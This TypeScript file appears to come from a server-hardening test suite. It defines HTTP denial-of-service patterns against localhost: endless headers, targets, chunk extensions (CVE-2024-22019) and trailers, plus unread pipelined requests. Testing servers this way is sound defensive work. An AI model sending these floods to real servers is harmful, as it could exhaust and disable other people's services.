import type { Attacker } from '../lib/attacker.ts'
import { paths } from '../lib/paths.ts'

const batch = 1000
const get = `GET ${paths.small} HTTP/1.1\r\nHost: localhost\r\n\r\n`
const chunked = `POST ${paths.upload} HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`

/** A beginning, and then the same text without an end. */
function without(begin: string, text: string, isRead = true): (a: Attacker) => Promise<void> {
  const bytes = Buffer.from(text.repeat(batch), 'latin1')
  return (attacker) =>
    attacker.http1(async (connection) => {
      if (!isRead) connection.socket.pause()
      await connection.sendText(begin, 0)
      while (connection.isOpen) await connection.send(bytes, batch)
    })
}

/** Pipelined requests whose responses are not read. */
export const pipelinedUnread = without('', get, false)

/** Pipelined requests whose responses are read. */
export const pipelined = without('', get)

/** A head with fields without an end. */
export const endlessHead = without(`GET ${paths.small} HTTP/1.1\r\nHost: localhost\r\n`, 'X: y\r\n')

/** A request target without an end. */
export const endlessTarget = without('GET /', 'x'.repeat(100))

/** A chunk with an extension without an end (CVE-2024-22019). */
export const endlessChunkExtension = without(`${chunked}1;`, 'x'.repeat(100))

/** Chunks of one byte with a short extension each. */
export const chunkExtensions = without(chunked, '1;a=b\r\nx\r\n')

/** Trailers without an end. */
export const endlessTrailers = without(`${chunked}0\r\n`, 'X: y\r\n')
